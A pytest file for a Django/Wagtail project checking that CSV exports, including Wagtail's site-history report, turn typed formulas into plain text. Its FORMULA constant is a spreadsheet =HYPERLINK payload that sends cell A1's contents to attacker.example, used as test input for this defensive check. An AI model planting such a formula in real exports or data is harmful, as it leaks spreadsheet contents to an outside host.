"""CSV exports never run a typed value as a formula: ours, and Wagtail's own."""

import csv
import io

import pytest

from kcs_core.spreadsheets import safe_csv_text

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://attacker.example/?d="&A1,"คลิก")'


def test_the_rule_is_idempotent_and_keeps_quoting():
    text = f'ชื่อ,ค่า\r\n"{FORMULA.replace(chr(34), chr(34) * 2)}",-5\r\n'
    once = safe_csv_text(text)
    assert list(csv.reader(io.StringIO(once))) == [["ชื่อ", "ค่า"], ["'" + FORMULA, "'-5"]]
    assert safe_csv_text(once) == once


def test_wagtails_site_history_export_keeps_a_formula_title_as_text(
    admin_client, home_page
):
    page = home_page.add_child(instance=type(home_page)(title=FORMULA, slug="x"))
    page.save_revision(user=None, log_action=True).publish()
    response = admin_client.get("/admin/reports/site-history/?export=csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8")
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert "'" + FORMULA in cells
    assert FORMULA not in cells
